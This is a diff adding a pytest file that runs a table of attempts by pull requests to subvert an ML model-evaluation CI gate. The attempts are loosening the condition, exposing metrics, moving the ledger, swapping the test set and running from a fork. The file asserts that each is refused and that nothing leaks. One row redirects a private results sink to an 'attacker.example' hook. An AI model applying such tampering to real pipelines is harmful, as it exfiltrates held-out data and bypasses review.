@@ -1,0 +1,115 @@
+"""The attack table: what a pull request tries, what the gate does, and what it reveals.
+
+Each row runs the Action through the harness as a same-repository pull request (or a fork)
+would, after the test set's owner registered the test set under the base branch's config. The
+pull request's own commit carries the attack. For every row: the exit code, that no figure
+computed from the test set reaches the team, and that the ledger holds only what it should.
+docs/threat-model.md lists the same rows with their defences.
+"""
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from github_fake import fake_github  # noqa: F401  (fixture)
+from test_action import (FLOAT, REPO, assert_no_test_set_numbers, data, git, gh, harness,  # noqa: F401
+                         inputs, make_workspace)
+
+
+def _pr_commit(ws: Path, edit) -> str:
+    edit(ws)
+    git(ws, "add", "-A")
+    git(ws, "commit", "-qm", "attack")
+    return git(ws, "rev-parse", "HEAD")
+
+
+def _append_config(text: str):
+    def edit(ws: Path) -> None:
+        with open(ws / ".easeml.yml", "a") as fh:
+            fh.write(text)
+    return edit
+
+
+def _set_condition(condition: str):
+    def edit(ws: Path) -> None:
+        text = (ws / ".easeml.yml").read_text()
+        lines = [f'condition: "{condition}"' if line.startswith("condition:") else line
+                 for line in text.splitlines()]
+        (ws / ".easeml.yml").write_text("\n".join(lines) + "\n")
+    return edit
+
+
+def _own_testset(ws: Path) -> None:
+    """A test set the pull request made up, on which the worse model looks great."""
+    worse = np.load(ws / "models" / "model.npy")
+    rng = np.random.default_rng(0)
+    np.savez(ws / "mine.npz", X=rng.normal(size=(len(worse), 3)), y=worse)
+
+
+def _steps_in_ledger(gh) -> list[dict]:
+    ref = gh.repos[REPO].refs.get("heads/easeml-ledger")
+    if ref is None:
+        return []
+    files = [p for p in gh.repos[REPO].commits[ref]["tree"] if p.endswith(".jsonl")]
+    entries = [json.loads(line) for f in files
+               for line in gh.file_on_branch(REPO, "easeml-ledger", f).splitlines()]
+    return [e for e in entries if e["kind"] == "step"]
+
+
+# (name, the PR's edit, extra inputs, config-from-base, expected exit, text the summary must show)
+ATTACKS = [
+    ("loosen the condition (config from base, the default)",
+     _set_condition("n - o > -0.5 +/- 0.05"), {}, None, 1, "failed"),
+    ("loosen the condition with config-from-base off",
+     _set_condition("n - o > -0.5 +/- 0.05"), {}, "false", 2, "registered"),
+    ("turn on show_metrics to read the estimate",
+     _append_config("show_metrics: true\n"), {}, "false", 2, "show_metrics"),
+    ("move the ledger to a fresh branch",
+     _append_config("ledger:\n  backend: github\n  branch: fresh-budget\n"), {}, "false", 2,
+     "ledger"),
+    ("point the private sink elsewhere",
+     _append_config("private_sink: https://attacker.example/hook\n"), {}, "false", 2,
+     "private_sink"),
+    ("bring its own test set",
+     _own_testset, {"testset": "mine.npz"}, None, 2, "not registered"),
+    ("bring its own test set and config",
+     _own_testset, {"testset": "mine.npz"}, "false", 2, "not registered"),
+]
+
+
+@pytest.mark.parametrize("name, edit, extra, from_base, code, shown", ATTACKS,
+                         ids=[a[0] for a in ATTACKS])
+def test_a_pull_request_cannot_change_its_own_gate(gh, data, tmp_path, name, edit, extra,
+                                                   from_base, code, shown):
+    ws, base, _ = make_workspace(tmp_path, data, "worse")  # the PR's model is worse than old
+    head = _pr_commit(ws, edit)
+    given = inputs(data, **extra)
+    if from_base is not None:
+        given["config-from-base"] = from_base
+    h = harness(gh, ws, base, head)
+    h._done.add(given["testset"])  # the owner registered the real test set, not the PR's
+    from test_action import register
+    register(gh, ws, base, str(data["testset"]))
+    result = h.run(given)
+    assert result.exit_code == code, result.log
+    assert shown in result.summary
+    assert "Traceback" not in result.log
+    config_figures = set(FLOAT.findall((ws / ".easeml.yml").read_text()))
+    for text in (result.summary, result.stdout):  # only the configs' own figures may show
+        assert_no_test_set_numbers(FLOAT.sub(
+            lambda m: "" if m.group(0) in config_figures else m.group(0), text))
+    steps = _steps_in_ledger(gh)
+    assert len(steps) == (1 if code in (0, 1) else 0)  # a refused run spends and shows nothing
+    if code == 2:
+        assert json.loads(result.outputs["clauses"]) == []
+        assert "fresh-budget" not in {r.split("/", 1)[-1] for r in gh.repos[REPO].refs}
+
+
+def test_a_fork_cannot_spend_or_open_anything(gh, data, tmp_path):
+    ws, base, head = make_workspace(tmp_path, data, "worse")
+    result = harness(gh, ws, base, head, token="ghs-read", fork=True).run(inputs(data))
+    assert result.exit_code == 2 and "contents: write" in result.summary
+    assert "loading test set" not in result.log and _steps_in_ledger(gh) == []
